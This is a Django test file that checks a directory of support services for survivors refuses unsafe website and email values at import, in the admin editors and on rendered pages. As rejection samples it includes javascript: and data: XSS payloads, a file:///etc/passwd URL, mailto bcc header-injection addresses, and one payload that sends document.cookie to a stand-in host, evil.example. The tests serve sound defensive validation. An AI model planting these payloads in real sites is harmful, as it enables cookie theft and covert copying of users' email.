"""A service's website and email become links on a survivor's page, so only a web address
and a plain email address are accepted: from an import, from the editor, and on the page
for a value stored before the rule."""

from __future__ import annotations

from django.test import SimpleTestCase
from django.urls import reverse

from mend.directory.hsds.coerce import email_problem, url_problem
from mend.directory.models import Organization, Service
from mend.directory.tests.hsds_support import (
    ORGANIZATION,
    append_row,
    csv_example_copy,
    failing_import,
    nothing_written,
)
from mend.directory.tests.test_service_editor import ServiceEditorTestCase
from mend.search.tests import factories as f
from mend.test import BaseTestCase, login_with_otp

BAD_SERVICE = "22222222-2222-4222-8222-222222222222"


class LinkRuleTests(SimpleTestCase):
    def test_web_addresses_are_accepted(self) -> None:
        for value in (
            "https://lantern.example.org",
            "http://lantern.example.org/help?lang=es#hours",
            "HTTPS://LANTERN.EXAMPLE.ORG",
        ):
            self.assertIsNone(url_problem(value), value)

    def test_anything_that_is_not_a_web_address_is_refused_by_name(self) -> None:
        for value in (
            "javascript:alert(document.cookie)",
            "JavaScript:alert(1)",
            " javascript:alert(1)",
            "java\tscript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "mailto:help@example.org",
            "file:///etc/passwd",
            "//lantern.example.org",
            "lantern.example.org",
            "https://",
            "https://lantern.example.org/a b",
            "https://[broken",
        ):
            self.assertEqual(
                url_problem(value),
                f"{value!r} is not a web address starting with https:// or http://",
            )

    def test_plain_email_addresses_are_accepted(self) -> None:
        for value in ("help@lantern.example.org", "ayuda+es@ejemplo.org", "o'neil@example.org"):
            self.assertIsNone(email_problem(value), value)

    def test_an_email_that_adds_headers_to_a_mailto_link_is_refused(self) -> None:
        for value in (
            "help@example.org?bcc=watcher@example.net",
            "help?bcc=watcher%40example.net@example.org",
            "help&subject=x@example.org",
            "help@example.org,watcher@example.net",
            "help.example.org",
            "@example.org",
        ):
            self.assertEqual(email_problem(value), f"{value!r} is not an email address")


class ImportRefusesLinksTests(BaseTestCase):
    def test_an_import_with_a_script_address_names_it_and_writes_nothing(self) -> None:
        folder = csv_example_copy(self)
        append_row(
            folder / "services.csv",
            id=BAD_SERVICE,
            organization_id=str(ORGANIZATION),
            name="Helpline",
            status="active",
            url="javascript:alert(1)",
            email="help@example.org?bcc=watcher@example.net",
        )
        output, error = failing_import(str(folder))
        self.assertEqual(error, "Nothing was imported: 2 error(s), listed above.")
        where = f"error: services.csv, row 3 (id {BAD_SERVICE})"
        self.assertIn(
            f"{where}, field url: 'javascript:alert(1)' is not a web address starting with "
            "https:// or http://",
            output,
        )
        self.assertIn(
            f"{where}, field email: 'help@example.org?bcc=watcher@example.net' is not an "
            "email address",
            output,
        )
        nothing_written(self)


class EditorRefusesLinksTests(ServiceEditorTestCase):
    def test_erin_cannot_save_a_script_address_as_the_services_website(self) -> None:
        response = self.client.post(self.change, self.edited(url="javascript:alert(1)"))
        self.assertEqual(response.status_code, 200)
        self.assertEqual(
            response.context["adminform"].form.errors["url"],
            ["'javascript:alert(1)' is not a web address starting with https:// or http://"],
        )
        self.service.refresh_from_db()
        self.assertEqual(self.service.url, "")


class OrganisationEditorRefusesLinksTests(BaseTestCase):
    def test_erin_cannot_save_a_script_website_or_a_hidden_copy_for_an_organisation(
        self,
    ) -> None:
        # The organisation's editor missed the rules the service editor applies: its
        # website and email are what a service without its own shows (found by a review).
        organization = Organization.objects.create(name="Lantern Center", description="x")
        login_with_otp(self.client, self.erin)
        url = reverse("admin:directory_organization_change", args=[organization.pk])
        r = self.client.post(
            url,
            {
                "name": "Lantern Center",
                "description": "x",
                "website": "javascript:fetch('//evil.example/?'+document.cookie)",
                "email": "help@lantern.example.org?bcc=spy@evil.example",
                "translations": "{}",
            },
        )
        self.assertEqual(r.status_code, 200)
        errors = r.context["adminform"].form.errors
        self.assertIn(
            "is not a web address starting with https:// or http://", errors["website"][0]
        )
        self.assertIn("is not an email address", errors["email"][0])
        organization.refresh_from_db()
        self.assertEqual((organization.website, organization.email), ("", ""))
        saved = self.client.post(
            url,
            {
                "name": "Lantern Center",
                "description": "x",
                "website": "https://lantern.example.org",
                "email": "help@lantern.example.org",
                "translations": "{}",
            },
        )
        self.assertEqual(saved.status_code, 302)
        organization.refresh_from_db()
        self.assertEqual(organization.website, "https://lantern.example.org")


class PageShowsSafeLinksOnlyTests(BaseTestCase):
    def page(self, service: Service) -> str:
        f.place(service)
        response = self.client.get(reverse("findhelp:service", args=[service.id]))
        self.assertEqual(response.status_code, 200)
        return response.content.decode()

    def test_a_script_address_stored_before_the_rule_gives_way_to_the_organisations(
        self,
    ) -> None:
        organization = f.make_organization(
            "Prairie Legal", website="https://prairie.example.org", email="desk@example.org"
        )
        service = f.make_service(
            "Rights Desk",
            organization=organization,
            url="javascript:alert(1)",
            email="help@example.org?bcc=watcher@example.net",
        )
        html = self.page(service)
        self.assertNotIn("javascript:", html)
        self.assertNotIn("watcher", html)
        self.assertIn('href="https://prairie.example.org"', html)
        self.assertIn('href="mailto:desk@example.org"', html)

    def test_a_page_with_no_safe_address_shows_no_link_at_all(self) -> None:
        service = f.make_service("Rights Desk", url="data:text/html,hello", email="nowhere")
        html = self.page(service)
        self.assertNotIn("data:text", html)
        self.assertNotIn("mailto:", html)
